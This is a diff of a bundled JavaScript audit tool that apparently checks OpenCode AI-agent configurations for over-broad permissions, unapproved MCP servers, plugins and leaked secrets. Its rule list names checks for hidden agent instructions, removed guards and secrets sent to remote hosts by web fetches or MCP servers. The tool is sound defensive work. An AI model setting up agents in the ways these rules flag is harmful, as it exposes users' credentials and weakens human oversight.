+        ...chain.flatMap((layers) => layers.dotConfigs),
+    ];
+    for (const asset of configs) {
+        for (const entry of referencesOf(asset)) {
+            if (/[/\s`,]/.test(entry.key) || entry.key === '')
+                continue;
+            const folder = reference_rules_folderOf(entry.node, asset);
+            if (folder !== undefined)
+                found.set(entry.key, { folder, place: entry.place });
+        }
+    }
+    const byFolder = new Map([...found].map(([name, reference]) => [reference.folder, { ...reference, name }]));
+    return [...byFolder.values()].flatMap(({ folder, place, name }) => {
+        if (folder === null)
+            return [];
+        const way = `references.${name}`;
+        return [
+            { permission: 'external_directory', pattern: `${folder}/*`, action: 'allow', origin: place, way },
+        ];
+    });
+}
+function referencesOf({ root }) {
+    const config = root ?? undefined;
+    return shape_shapeOf(config) === null ? [] : entriesOf(get(config, 'references') ?? get(config, 'reference'));
+}
+/** Undefined for what is no reference. */
+function reference_rules_folderOf(node, asset) {
+    const text = stringOf(node);
+    const path = text !== undefined && /^[./~]/.test(text) ? text : stringOf(get(node, 'path'));
+    if (path !== undefined)
+        return reference_rules_resolve(asset.path.split('/').slice(0, -1), path);
+    const repository = text ?? stringOf(get(node, 'repository'));
+    return repository === undefined ? undefined : cloneOf(repository, stringOf(get(node, 'branch')));
+}
+function cloneOf(repository, branch) {
+    const folder = repositoryFolder(repository, branch);
+    return folder === null ? null : `${DATA}/repos/${folder}`;
+}
+/** Against the folder of the file that says it; a way out of the repository keeps its `..`. */
+function reference_rules_resolve(folder, path) {
+    if (path.startsWith('~/'))
+        return `${HOME}/${normalise(path.slice(2).split('/')).join('/')}`;
+    if (path.startsWith('/'))
+        return `/${normalise(path.split('/')).join('/')}`;
+    const way = normalise([...folder, ...path.split('/')]);
+    return way.length === 0 ? PROJECT : `${PROJECT}/${way.join('/')}`;
+}
+function normalise(steps) {
+    const way = [];
+    for (const step of steps) {
+        if (step === '' || step === '.')
+            continue;
+        if (step === '..' && way.length > 0 && way.at(-1) !== '..')
+            way.pop();
+        else
+            way.push(step);
+    }
+    return way;
+}
+
+;// CONCATENATED MODULE: ./build/opencode/second-rules.js
+
+
+/** Version 2 looks for a home directory in the resources of these actions alone. */
+const WITH_PATHS = new Set(['external_directory', 'read', 'edit']);
+/** The rules of a list `[{ action, resource, effect }]`, in its order. Nonsense is left out. */
+function secondRules(items, way) {
+    return items.flatMap((item, index) => {
+        const permission = stringOf(get(item, 'action'));
+        const resource = stringOf(get(item, 'resource'));
+        const action = actionOf(get(item, 'effect'));
+        if (permission === undefined || resource === undefined || action === null)
+            return [];
+        const pattern = WITH_PATHS.has(permission) ? expandHome(resource) : resource;
+        return [{ permission, pattern, action, origin: item.place, way: `${way}.${index}` }];
+    });
+}
+/** The old key `tools` as rules. */
+function toolRules(tools, way) {
+    return entriesOf(tools).flatMap((entry) => {
+        const isOn = booleanOf(entry.node);
+        if (isOn === undefined)
+            return [];
+        const permission = ['write', 'patch'].includes(entry.key) ? 'edit' : entry.key;
+        const common = { permission, pattern: '*', origin: entry.place, way: `${way}.${entry.key}` };
+        return [{ ...common, action: isOn ? 'allow' : 'deny' }];
+    });
+}
+
+;// CONCATENATED MODULE: ./build/opencode/second-agents.js
+
+
+
+
+
+
+
+/**
+ * The agents of a set-up as version 2 of OpenCode reads it: no layer is merged into another. The rules for all agents
+ * of every file come first, one file after the other, then those of each file for the agent. Null when all agents
+ * together have more than `most` rules.
+ */
+function resolveSecondAgents(chain, surroundings, most) {
+    const documents = documentsOf(chain);
+    const before = [...defaultRules(surroundings)];
+    const global = documents.flatMap((document) => document.rules);
+    const agents = new Map();
+    for (const { name, mode, hidden, rules } of builtInAgents(surroundings)) {
+        const common = { name, mode, hidden, description: '', definedAt: null, isBuiltIn: true };
+        agents.set(name, { ...common, rules: [...before, ...rules, ...global] });
+    }
+    const builtIns = new Set(agents.keys());
+    let count = 0;
+    for (const part of documents.flatMap((document) => document.agents)) {
+        if (part.isDisabled)
+            agents.delete(part.name);
+        else
+            agents.set(part.name, second_agents_extend(agents.get(part.name) ?? fresh(part.name, global, builtIns), part));
+        count += part.rules.length + global.length;
+        if (count > most)
+            return null;
+    }
+    return [...agents.values()];
+}
+/** An agent of the user's own starts from the rules for all agents alone: what nobody mentions is asked. */
+function fresh(name, global, builtIns) {
+    const common = { name, hidden: false, description: '', definedAt: null, isBuiltIn: builtIns.has(name) };
+    return { ...common, mode: 'all', rules: global };
+}
+function second_agents_extend(agent, part) {
+    return {
+        ...agent,
+        mode: part.mode ?? agent.mode,
+        hidden: part.hidden ?? agent.hidden,
+        description: part.description ?? agent.description,
+        definedAt: part.entry.place,
+        rules: [...agent.rules, ...part.rules],
+    };
+}
+function documentsOf(chain) {
+    return [
+        ...chain.flatMap((layers) => layers.configs.map(configDocument)),
+        ...chain
+            .toReversed()
+            .flatMap((layers) => [
+            ...layers.dotConfigs.map(configDocument),
+            ...layers.agents.map((asset) => markdownDocument(asset, undefined)),
+            ...layers.modes.map((asset) => markdownDocument(asset, 'primary')),
+        ]),
+    ];
+}
+function configDocument({ root }) {
+    const node = root ?? undefined;
+    const shape = shape_shapeOf(node);
+    if (shape === null)
+        return { rules: [], agents: [] };
+    if (shape === 2) {
+        const agents = entriesOf(get(node, 'agents')).map((entry) => secondPart(entry));
+        return { rules: secondRules(itemsOf(get(node, 'permissions')), 'permissions'), agents };
+    }
+    const own = permissionRules(normalisePermission(get(node, 'permission')), 'permission');
+    return {
+        rules: [...toolRules(get(node, 'tools'), 'tools'), ...own],
+        agents: [
+            ...entriesOf(get(node, 'agent')).map((entry) => firstPart(entry, undefined)),
+            ...entriesOf(get(node, 'mode')).map((entry) => firstPart(entry, 'primary')),
+        ],
+    };
+}
+const KEYS_OF_AGENT = new Set([
+    ...['model', 'variant', 'request', 'system', 'description', 'mode', 'hidden', 'color', 'steps', 'disabled'],
+    'permissions',
+]);
+/** Front matter with a key that version 2 does not know is read as version 1; its name is always the file's. */
+function markdownDocument(asset, mode) {
+    if (asset.root === null)
+        return { rules: [], agents: [] };
+    const entries = entriesOf(asset.root);
+    const place = entries[0]?.place ?? { path: asset.path, line: 1, column: 1 };
+    const entry = { key: asset.name, place, node: asset.root };
+    const isSecond = entries.every(({ key }) => KEYS_OF_AGENT.has(key));
+    const part = isSecond ? secondPart(entry) : firstPart(entry, mode);
+    return { rules: [], agents: [{ ...part, mode: mode ?? part.mode }] };
+}
+function secondPart(entry) {
+    const way = `agents.${entry.key}.permissions`;
+    const rules = secondRules(itemsOf(get(entry.node, 'permissions')), way);
+    return { ...commonPart(entry), isDisabled: booleanOf(get(entry.node, 'disabled')) === true, rules };
+}
+function firstPart(entry, mode) {
+    const common = commonPart(entry);
+    const way = `agent.${entry.key}.permission`;
+    const own = permissionRules(normalisePermission(get(entry.node, 'permission')), way);
+    const given = new Set(own.map((rule) => rule.permission));
+    // In version 1 the permission is assigned over the tools, which keep their places.
+    const tools = toolRules(get(entry.node, 'tools'), way).filter((rule) => !given.has(rule.permission));
+    const isDisabled = booleanOf(get(entry.node, 'disable')) === true;
+    return { ...common, mode: mode ?? common.mode, isDisabled, rules: [...tools, ...own] };
+}
+function commonPart(entry) {
+    return {
+        name: entry.key,
+        entry,
+        mode: modeOf(entry.node),
+        hidden: booleanOf(get(entry.node, 'hidden')),
+        description: stringOf(get(entry.node, 'description')),
+    };
+}
+
+;// CONCATENATED MODULE: ./build/opencode/skill-folders.js
+
+/**
+ * OpenCode opens the folder of each skill to every agent, as a directory outside the project: first those of
+ * `.claude` and `.agents` from the start up to the root, then those of `.opencode` in the same order.
+ */
+function skillRules(chain) {
+    const nearestFirst = chain.toReversed().flatMap((layers) => layers.skills);
+    const isOwn = (path) => path.split('/').includes('.opencode');
+    const paths = nearestFirst.map((asset) => asset.path);
+    const ordered = [...paths.filter((path) => !isOwn(path)), ...paths.filter(isOwn)];
+    const folders = ordered.map((path) => path.split('/').slice(0, -1).join('/'));
+    return [...new Set(folders)].map((folder) => builtIn('external_directory', `${PROJECT}/${folder}/*`, 'allow'));
+}
+
 ;// CONCATENATED MODULE: ./build/opencode/starts.js
 /**
  * Every folder that has a configuration of its own; the root always comes first. `files` of all starts together
@@ -42089,19 +56381,30 @@ function findStarts(folders, most) {
             continue;
         while (open.length > 1 && !folder.startsWith(`${open.at(-1)?.folder ?? ''}/`))
             open.pop();
-        const start = startIn(folder, layers, open.at(-1));
+        const start = startIn(folder, layers, isGlobal(folder) ? undefined : open.at(-1));
+        if (!isGlobal(folder))
+            open.push(start);
+        if (layers.skills.length > 0 && starts_filesOf(layers) === 0)
+            continue;
         files += start.files;
         if (files > most)
             return null;
         starts.push(start);
-        open.push(start);
     }
     return starts;
 }
 function startIn(folder, layers, above) {
     const own = layers === undefined ? [] : [layers];
-    const count = own.reduce((sum, on) => sum + on.configs.length + on.dotConfigs.length + on.agents.length + on.modes.length, 1);
+    const count = own.reduce((sum, on) => sum + starts_filesOf(on) + on.skills.length, 1);
     return { folder, chain: [...(above?.chain ?? []), ...own], files: (above?.files ?? 0) + count };
+}
+/** The configuration of somebody's home belongs to no project. */
+function isGlobal(folder) {
+    return /(?:^|\/)\.config\/opencode$/.test(folder);
+}
+/** Skills alone do not make a folder one to start in. */
+function starts_filesOf({ configs, dotConfigs, agents, modes }) {
+    return configs.length + dotConfigs.length + agents.length + modes.length;
 }
 /** A folder, then everything below it, then its next neighbour. */
 function byFolder(a, b) {
@@ -42117,25 +56420,38 @@ function byFolder(a, b) {
 
 
 
+
+
+
+
 /** Layers over set-ups, and rules over agents: more than any real repository has, and still done in seconds. */
-const MAX_WORK = 2_000_000;
-/** Reads the assets of one commit. Throws GateError `audit-failed` when they are too many to resolve. */
-function parseProject(files) {
-    const assets = files.flatMap((file) => parseAsset(file) ?? []);
-    const starts = findStarts(layersByFolder(assets), MAX_WORK);
+const project_MAX_WORK = 2_000_000;
+/**
+ * Reads the assets of one commit as an OpenCode of `semantics` would (see semantics-of.ts; default: the pinned one).
+ * Throws GateError `audit-failed` when they are too many to resolve.
+ */
+function parseProject(files, semantics = PINNED) {
+    const assets = files.flatMap((file) => parseAsset(file, semantics) ?? []);
+    const starts = findStarts(layersByFolder(assets, semantics), project_MAX_WORK);
     if (starts === null)
         throw tooLarge();
     let rules = 0;
     const setUps = starts.map(({ folder, chain }) => {
-        const config = mergeLayers(chain);
-        const agents = resolveAgents(config, MAX_WORK - rules);
+        const config = mergeLayers(chain, semantics);
+        const folders = [...skillRules(chain), ...referenceRules(chain)];
+        const agents = resolveChain(chain, config, { semantics, folders }, project_MAX_WORK - rules);
         if (agents === null)
             throw tooLarge();
         for (const agent of agents)
             rules += agent.rules.length;
         return { folder, config, agents };
     });
-    return { assets: new Map(assets.map((asset) => [asset.path, asset])), setUps };
+    return { assets: new Map(assets.map((asset) => [asset.path, asset])), setUps, semantics };
+}
+function resolveChain(chain, config, surroundings, most) {
+    if (surroundings.semantics.dialect === 1)
+        return resolveAgents(config, surroundings, most);
+    return resolveSecondAgents(chain, surroundings, most);
 }
 function tooLarge() {
     const message = 'The OpenCode configuration is too large to resolve. Remove agents, patterns or nested folders.';
@@ -42179,9 +56495,9 @@ function countById(findings) {
  * are indented. `evidence` is the text of the lines, and whatever else tells two findings in one file apart.
  */
 function fingerprint(hash, rule, path, evidence) {
-    return hash([rule, path, normalise(evidence)].join('\0')).slice(0, 32);
+    return hash([rule, path, fingerprint_normalise(evidence)].join('\0')).slice(0, 32);
 }
-function normalise(text) {
+function fingerprint_normalise(text) {
     return text
         .split('\n')
         .map((line) => line.trim().replace(/\s+/g, ' '))
@@ -42189,7 +56505,23 @@ function normalise(text) {
         .join('\n');
 }
 
+;// CONCATENATED MODULE: ./build/audit/offer.js
+
+const offer_MAX_LENGTH = 4096;
+/**
+ * The replacement that people are offered to take over, as part of a finding. It is made from lines of the head, so
+ * that nothing in it may be hidden; and in a workflow nothing is offered at all.
+ */
+function offerOf({ path, line, suggestion }, evidence) {
+    if (suggestion === undefined || line === 0 || suggestion === evidence)
+        return {};
+    if (suggestion.length > offer_MAX_LENGTH || path.startsWith('.github/'))
+        return {};
+    return suggestion.split(/[\n\t]/).some(hasUnseen) ? {} : { suggestion };
+}
+
 ;// CONCATENATED MODULE: ./build/audit/stamp-hit.js
+
 
 /** One line of a minified file can be a megabyte; nobody reads more than this of it. */
 const MAX_EVIDENCE = 2_000;
@@ -42214,7 +56546,7 @@ function stampHit(hit, { rule, severity, context, hash, pathOf }) {
         message: hit.message.slice(0, MAX_MESSAGE),
         evidence,
         ...(hit.remedy === undefined ? {} : { remedy: hit.remedy }),
-        ...(hit.suggestion === undefined ? {} : { suggestion: hit.suggestion }),
+        ...offerOf(hit, evidence),
     };
 }
 function stamp_hit_textOf(path, startLine, endLine, { project }) {
@@ -42231,20 +56563,28 @@ function stamp_hit_textOf(path, startLine, endLine, { project }) {
 
 
 
+
+
 /**
  * The deterministic leg. Every rule runs over every asset of the head, and again over the base, so that what was
  * there before can be told from what the change brings. Throws GateError `audit-failed` when anything in it fails:
  * an audit that did not run to its end has no verdict.
  */
 function runAudit(request) {
-    const head = parseProject(request.head);
+    const semantics = semanticsOf(request.policy.opencodeVersion);
+    const head = parseProject(request.head, semantics);
+    const base = request.base === null ? null : parseProject(request.base, semantics);
     const renamed = new Map(request.change.files
         .filter((file) => file.status === 'renamed')
         .map((file) => [file.basePath, file.path]));
-    const before = findAll('base', parseProject(request.base), request, (path) => renamed.get(path) ?? path);
-    const found = findAll('head', head, request, (path) => path);
-    const findings = acceptFindings(found, before, request.policy, request.today).toSorted(bySeverity);
-    return run_audit_judge(findings, request.failOn, buildMatrix(head));
+    const nowNamed = (path) => renamed.get(path) ?? path;
+    const before = base === null ? [] : findAll(contextOf('base', base, null, request), request, nowNamed);
+    const found = findAll(contextOf('head', head, base, request), request, (path) => path);
+    const { finding: masked } = maskOf(request.secrets);
+    const findings = acceptFindings(found, before, request.policy, request.today)
+        .map(masked)
+        .toSorted(bySeverity);
+    return run_audit_judge(findings, request.failOn, buildMatrix(head, base));
 }
 function run_audit_judge(findings, failOn, matrix) {
     const blocking = findings.filter((finding) => !finding.accepted && reaches(finding.severity, failOn));
@@ -42254,16 +56594,25 @@ function run_audit_judge(findings, failOn, matrix) {
     const message = `The audit has ${count} at or over the threshold "${failOn}".`;
     return { verdict: 'block', findings, matrix, reasons: [{ code: 'finding-at-threshold', message }] };
 }
+function contextOf(side, project, base, { change, policy, owners, secrets, today }) {
+    const own = secrets.filter((secret) => secret.side === side);
+    return { side, project, base, change, policy, owners, secrets: own, today };
+}
 /** `pathOf` gives the path under which a finding is recognised: at the base, the name that the file has now. */
-function findAll(side, project, { change, policy, today, hash }, pathOf) {
-    const context = { side, project, change, policy, today };
+function findAll(context, { policy, hash }, pathOf) {
     const found = new Map();
     for (const rule of RULES) {
-        const setting = policy.rules[rule.id];
+        const setting = policy.rules[rule.id] ?? (rule.offByDefault ? 'off' : undefined);
         if (setting === 'off')
             continue;
         for (const hit of hitsOf(rule, context)) {
-            const finding = stampHit(hit, { rule, severity: setting ?? rule.severity, context, hash, pathOf });
+            const finding = stampHit(hit, {
+                rule,
+                severity: setting ?? hit.severity ?? rule.severity,
+                context,
+                hash,
+                pathOf,
+            });
             // The same place can be reached from several folders in which OpenCode may be started.
             found.set(`${finding.id} ${finding.startLine}`, finding);
         }
@@ -42280,19 +56629,23 @@ function* hitsOf(rule, context) {
     }
 }
 
-;// CONCATENATED MODULE: ./build/opencode/asset.js
-
-
 ;// CONCATENATED MODULE: ./build/gate/audit-change.js
 
 
+
+
+
 /** The deterministic leg: every asset of the head, and as a difference against the base. */
-async function auditChange({ range, change, policy, failOn }, { today, againstNothing }, { repository, trail, hash }) {
-    const [head, base] = await Promise.all([
+async function auditChange({ range, change, policy, failOn }, { today, againstNothing }, { repository, secrets: scanner, trail, hash }) {
+    const [head, base, ownersFiles] = await Promise.all([
         repository.readFiles(range.head, isAsset),
-        againstNothing ? [] : repository.readFiles(range.base, isAsset),
+        againstNothing ? null : repository.readFiles(range.base, isAsset),
+        repository.readFiles(range.base, isOwnersFile),
     ]);
-    const audit = runAudit({ head, base, change, policy, failOn, today, hash });
+    const sources = secretSources(head, base ?? [], change);
+    const secrets = locateSecrets(sources, await scanner.find(sources), hash);
+    const owners = parseOwners(ownersFiles);
+    const audit = runAudit({ head, base, change, policy, owners, secrets, failOn, today, hash });
     for (const { id, source, rule, severity, accepted } of audit.findings) {
         trail.record({
             kind: 'finding',
@@ -42303,22 +56656,131 @@ async function auditChange({ range, change, policy, failOn }, { today, againstNo
             became: accepted ? `accepted by ${accepted.by}` : 'kept',
         });
     }
-    return audit;
+    return { audit, mask: maskOf(secrets) };
+}
+
+;// CONCATENATED MODULE: ./build/policy/ceiling-keys.js
+
+
+
+/**
+ * What is wrong with a key of a ceiling, or null. Tools of MCP servers and plugins have names of their own, so only
+ * what OpenCode never asks for and what is almost one of its keys is wrong: a limit that limits nothing.
+ */
+function ceilingKeyProblem(key) {
+    if (MATRIX_KEYS.some((known) => known === key))
+        return null;
+    const instead = DEAD_KEYS.get(key);
+    if (instead !== undefined) {
+        return `${quoteName(key)} has no effect in OpenCode${instead === null ? '' : `; write "${instead}"`}`;
+    }
+    const meant = MATRIX_KEYS.find((known) => isSlipOf(key, known));
+    if (meant === undefined)
+        return null;
+    return `unknown key ${quoteName(key)}; did you mean "${meant}"? (For a tool of that very name write "${key}*".)`;
+}
+/** Other case, two letters swapped, one left out or one too many. Another letter makes another word: lint, list. */
+function isSlipOf(key, known) {
+    if (key.toLowerCase() === known || key.toLowerCase() === known.replaceAll('_', ''))
+        return true;
+    if (key.length > known.length + 1 || /[*?]/.test(key))
+        return false;
+    if (key.length === known.length) {
+        const at = firstDifference(key, known);
+        return known.slice(0, at) + (known[at + 1] ?? '') + (known[at] ?? '') + known.slice(at + 2) === key;
+    }
+    const [longer, shorter] = key.length > known.length ? [key, known] : [known, key];
+    const at = firstDifference(longer, shorter);
+    return longer.slice(0, at) + longer.slice(at + 1) === shorter;
+}
+function firstDifference(a, b) {
+    const at = a.split('').findIndex((character, index) => character !== b[index]);
+    return at < 0 ? a.length : at;
 }
 
 ;// CONCATENATED MODULE: ./build/audit/rule-ids.js
 /** Every rule by id, in alphabetical order. A leaf without imports, so that the policy can name rules too. */
 const RULE_IDS = [
+    'agent-changed-without-evals',
+    'agent-hidden-instructions',
+    'agent-removed-guard',
+    'agent-shadows-builtin',
+    'agent-widens-global',
+    'ask-when-unattended',
+    'assets-without-owner',
+    'bare-command-pattern',
+    'bash-defeats-edit-deny',
+    'bash-deny-list',
+    'bash-map-without-star',
+    'bash-pattern-escapes',
     'bash-unrestricted',
+    'command-agent-missing',
+    'command-shell',
     'config-invalid',
+    'config-unknown-key',
+    'dependencies-in-opencode-dir',
+    'doom-loop-open',
     'edit-in-reviewer',
+    'enterprise-url',
+    'env-guard-removed',
+    'external-directory-open',
+    'formatter-or-lsp-command',
+    'frontmatter-executes',
+    'frontmatter-fails-open',
+    'global-loosens-builtin',
+    'instructions-changed',
+    'instructions-remote',
+    'legacy-tools',
+    'mcp-added',
+    'mcp-changed',
+    'mcp-credential-scope',
+    'mcp-env-to-remote',
+    'mcp-remote-plain',
+    'mcp-remote-unlisted',
+    'mcp-secret-inline',
+    'mcp-shell',
+    'mcp-tools-open',
+    'mcp-unapproved',
     'mcp-unpinned',
+    'model-changed',
+    'permission-above-ceiling',
     'permission-allow-all',
+    'permission-missing',
+    'permission-unknown-key',
+    'permission-widened',
+    'plugin-added',
     'plugin-local-code',
+    'plugin-unapproved',
+    'plugin-unpinned',
+    'policy-changed',
     'policy-expired',
+    'provider-code',
+    'provider-redirect',
+    'read-without-env-deny',
+    'references-remote',
+    'rule-dead',
+    'rule-shadowed',
+    'secret-in-asset',
+    'secret-in-change',
+    'share-enabled',
+    'shell-override',
+    'skill-description-changed',
+    'skills-remote',
+    'substitution-syntax',
+    'substitution-to-remote',
+    'task-escalates',
+    'telemetry-export',
+    'tool-local-code',
+    'tool-shadows-builtin',
+    'v2-permissions-ignored',
+    'webfetch-with-secrets',
+    'workflow-auto-approve',
+    'workflow-opencode-unpinned',
+    'workflow-secrets-beside-agent',
+    'workflow-untrusted-checkout',
 ];
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/classic/iso.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/classic/iso.js
 
 
 
@@ -42340,15 +56802,15 @@ function iso_duration(params) {
 
 
 const policy_schema_action = schemas_enum(['allow', 'ask', 'deny'])
-    .describe('What a non-interactive run makes of it: ask means deny.');
+    .describe('Allow is wider than ask, ask is wider than deny. In a run without a person, ask means deny.');
 const policy_schema_permission = union([policy_schema_action, record(schemas_string(), union([policy_schema_action, record(schemas_string(), policy_schema_action)]))])
     .describe("OpenCode's permission shape: an action, or keys with an action or a map of patterns.");
 const reason = schemas_string().trim().min(1).max(2000).describe('Why, for the people who read this later.');
 const expires = iso_date()
     .optional()
     .describe('Last day on which the entry counts (YYYY-MM-DD, UTC). Afterwards it is reported and ignored.');
-const agentCeiling = strictObject({ ceiling: policy_schema_permission, reason })
-    .describe('The widest permission of this one agent; takes the place of the general ceiling.');
+const agentCeiling = strictObject({ ceiling: policy_schema_permission, reason, expires })
+    .describe('An exception for one agent: laid over the general ceiling, what is written here wins.');
 const mcpEntry = strictObject({
     name: schemas_string().min(1).describe('The name of the server in the configuration.'),
     command: array(schemas_string()).min(1).optional().describe('The exact command line, versions included.'),
@@ -42385,7 +56847,7 @@ const review = strictObject({
         .describe('What reviewers of this repository should look for.'),
 })
     .describe('The model leg.');
-const limits = strictObject({
+const policy_schema_limits = strictObject({
     requests: schemas_int().min(1).max(10_000).default(150).describe('Model calls of one run.'),
     requestsPerMinute: schemas_int().min(1).max(10_000).default(60).describe('Model calls in any minute.'),
     inputTokens: schemas_int().min(1).max(1_000_000_000).default(3_000_000).describe('Input tokens of one run.'),
@@ -42410,15 +56872,17 @@ const acceptedEntry = strictObject({
 /** The policy file. Every object is strict, every part has a default. */
 const POLICY_SCHEMA = strictObject({
     $schema: schemas_string().optional().describe('For editors.'),
-    ceiling: policy_schema_permission.optional().describe('The widest permission of a shared agent.'),
-    agents: record(schemas_string(), agentCeiling).default({}).describe('Ceilings of single agents, by name.'),
+    ceiling: policy_schema_permission
+        .optional()
+        .describe('The widest permission of a shared agent, laid over the default ceiling (docs/policy.md); {} is that ceiling itself. Absent: agents are not compared with one.'),
+    agents: record(schemas_string(), agentCeiling).default({}).describe('Exceptions of single agents, by name.'),
     mcp: array(mcpEntry).default([]).describe('Approved MCP servers.'),
     plugins: array(pluginEntry).default([]).describe('Approved plugins.'),
     rules: partialRecord(schemas_enum(RULE_IDS), union([schemas_enum(SEVERITIES), schemas_literal('off')]))
         .default({})
         .describe('Another severity for a rule, or off.'),
     review: review.prefault({}),
-    limits: limits.prefault({}),
+    limits: policy_schema_limits.prefault({}),
     accepted: array(acceptedEntry).default([]).describe('Accepted findings.'),
     auditExisting: schemas_enum(['block', 'report', 'off'])
         .default('report')
@@ -42447,40 +56911,12 @@ function knownKeys(way) {
     if (second === undefined)
         return [];
     if (first === 'agents')
-        return ['ceiling', 'reason'];
+        return ['ceiling', 'reason', 'expires'];
     if (first === 'mcp')
         return Object.keys(POLICY_SCHEMA.shape.mcp.unwrap().element.shape);
     if (first === 'plugins')
         return Object.keys(POLICY_SCHEMA.shape.plugins.unwrap().element.shape);
     return first === 'accepted' ? Object.keys(POLICY_SCHEMA.shape.accepted.unwrap().element.shape) : [];
-}
-
-;// CONCATENATED MODULE: ./build/policy/nearest.js
-/** The known name that a misspelt or shortened one is closest to; null when none is close. */
-function nearest_nearest(name, known) {
-    if (name.length > 64)
-        return null;
-    const longer = name.length < 3 ? [] : known.filter((candidate) => candidate.startsWith(`${name}-`));
-    if (longer.length === 1 && longer[0] !== undefined)
-        return longer[0];
-    const ranked = known
-        .map((candidate) => ({ candidate, steps: distance(name.toLowerCase(), candidate.toLowerCase()) }))
-        .toSorted((a, b) => a.steps - b.steps);
-    const best = ranked[0];
-    return best !== undefined && best.steps <= Math.max(2, Math.floor(name.length / 3)) ? best.candidate : null;
-}
-/** Levenshtein: letters added, left out or replaced. */
-function distance(a, b) {
-    let row = Array.from({ length: b.length + 1 }, (_, index) => index);
-    for (let i = 1; i <= a.length; i += 1) {
-        const next = [i];
-        for (let j = 1; j <= b.length; j += 1) {
-            const replaced = (row[j - 1] ?? 0) + (a[i - 1] === b[j - 1] ? 0 : 1);
-            next.push(Math.min(replaced, (row[j] ?? 0) + 1, (next[j - 1] ?? 0) + 1));
-        }
-        row = next;
-    }
-    return row[b.length] ?? 0;
 }
 
 ;// CONCATENATED MODULE: ./build/policy/policy.js
@@ -42495,6 +56931,7 @@ const DEFAULT_POLICY = {
 };
 
 ;// CONCATENATED MODULE: ./build/policy/parse-policy.js
+
 
 
 
@@ -42523,7 +56960,8 @@ function parsePolicy(bytes, path) {
     refusePrototypeKeys(root);
     const result = POLICY_SCHEMA.safeParse(toValue(root));
     if (!result.success)
-        throw explain(root, result.error);
+        throw parse_policy_explain(root, result.error);
+    refuseCeilingsThatLimitNothing(root);
     return {
         ...result.data,
         path,
@@ -42553,7 +56991,16 @@ function refusePrototypeKeys(node) {
         for (const item of node.items)
             refusePrototypeKeys(item);
 }
-function explain(root, error) {
+/** Any key may name a tool, so that the schema takes all; a limit that OpenCode never looks at is still a mistake. */
+function refuseCeilingsThatLimitNothing(root) {
+    const exceptions = entriesOf(get(root, 'agents')).map((agent) => get(agent.node, 'ceiling'));
+    for (const entry of [get(root, 'ceiling'), ...exceptions].flatMap(entriesOf)) {
+        const problem = ceilingKeyProblem(entry.key);
+        if (problem !== null)
+            throw parse_policy_invalid(entry.place, problem);
+    }
+}
+function parse_policy_explain(root, error) {
     const issue = error.issues.map(furthest)[0];
     if (issue === undefined)
         return parse_policy_invalid(root.place, 'the policy does not fit its schema');
@@ -42761,7 +57208,7 @@ function safeSuggestion(reported, file, place) {
     const { suggestion, startLine, endLine } = reported;
     if (suggestion === undefined || place.side !== 'head' || place.startLine === 0)
         return null;
-    if (suggestion.length > MAX_SUGGESTION || !isPlain(suggestion))
+    if (suggestion.length > MAX_SUGGESTION || !visible_isPlain(suggestion))
         return null;
     if (endLine !== undefined && endLine - startLine !== place.endLine - place.startLine)
         return null;
@@ -42830,18 +57277,18 @@ function anchorFindings(report, files, hash) {
     return report.findings.map((reported) => {
         const file = byShownPath.get(reported.path);
         if (file === undefined)
-            return DROPPED;
+            return anchor_DROPPED;
         const lines = indexes.get(file) ?? indexLines(file);
         indexes.set(file, lines);
         return anchorFinding(reported, file, lines, hash);
     });
 }
-const DROPPED = { became: 'dropped', finding: null };
+const anchor_DROPPED = { became: 'dropped', finding: null };
 function anchorFinding(reported, file, lines, hash) {
     const { places, all } = findPlaces(reported.evidence, lines);
     const first = places[0];
     if (first === undefined)
-        return DROPPED;
+        return anchor_DROPPED;
     const changed = places.filter((place) => place.changed);
     const exact = changed.find((place) => place.startLine === reported.startLine);
     if (exact)
@@ -43124,8 +57571,8 @@ function bundles_byPath(a, b) {
     return a.path < b.path ? -1 : 1;
 }
 
-// EXTERNAL MODULE: ./node_modules/ignore/index.js
-var ignore = __nccwpck_require__(298);
+// EXTERNAL MODULE: ../main/node_modules/ignore/index.js
+var ignore = __nccwpck_require__(3501);
 ;// CONCATENATED MODULE: ./build/change/scope.js
 
 
@@ -43146,12 +57593,12 @@ function inScope(change, patterns) {
 const EXCLUDED = { outcome: 'excluded', why: "The policy's include and exclude leave this file out." };
 /** A renamed file is left out only if both its names are: moving code out of scope is a change within it. */
 function matcher({ include, exclude }) {
-    const included = rules(include);
-    const excluded = rules(exclude);
+    const included = scope_rules(include);
+    const excluded = scope_rules(exclude);
     const isIn = (path) => (include.length === 0 || included.ignores(path)) && !excluded.ignores(path);
     return ({ path, basePath, status }) => isIn(path) || (status === 'renamed' && isIn(basePath));
 }
-function rules(patterns) {
+function scope_rules(patterns) {
     return ignore({ ignorecase: false, allowRelativePaths: true }).add([...patterns]);
 }
 /** What the ledger says about a file that has no line to review; null for a file that has. */
@@ -43359,17 +57806,17 @@ function parseObject(text) {
 
 
 const line = schemas_int().min(1).max(10_000_000);
-const words = schemas_string().min(1);
+const report_words = schemas_string().min(1);
 const MAX_EVIDENCE_LINES = 100;
 const finding = strictObject({
-    path: words,
+    path: report_words,
     startLine: line,
     endLine: line.optional(),
     severity: schemas_enum(SEVERITIES),
     confidence: schemas_enum(CONFIDENCES),
-    category: words,
-    title: words,
-    message: words,
+    category: report_words,
+    title: report_words,
+    message: report_words,
     evidence: schemas_string()
         .regex(/\S/u, 'must be the exact text of the line or lines meant')
         .refine((text) => text.split('\n').length <= MAX_EVIDENCE_LINES, {
@@ -43563,7 +58010,7 @@ async function reviewChange(parts) {
         ...coverBundles(plan.bundles, failuresOf(outcomes)),
     ]);
     const bundles = outcomes.map(({ report }) => (report.outcome === 'reported' ? 'reported' : report.reason));
-    const missing = trouble === null || isKnown(trouble, bundles) ? [] : [trouble];
+    const missing = trouble === null || review_change_isKnown(trouble, bundles) ? [] : [trouble];
     return {
         ...decideReview({ findings: kept.judged, failOn: parts.failOn, bundles, coverage, missing }),
         findings: kept.shown,
@@ -43577,7 +58024,7 @@ async function reviewChange(parts) {
 }
 const review_change_NOTHING = { usage: { input: 0, output: 0, cached: 0, costUsd: 0 }, trouble: null };
 /** A trouble that already ended a bundle is said once, in the words that were nearer to it. */
-function isKnown(trouble, bundles) {
+function review_change_isKnown(trouble, bundles) {
     return bundles.some((bundle) => bundle !== 'reported' && bundle.code === trouble.code);
 }
 async function reviewBundles(bundles, parts) {
@@ -43751,11 +58198,16 @@ async function gate_gate(request, ports) {
 }
 async function gate_judge(request, ports) {
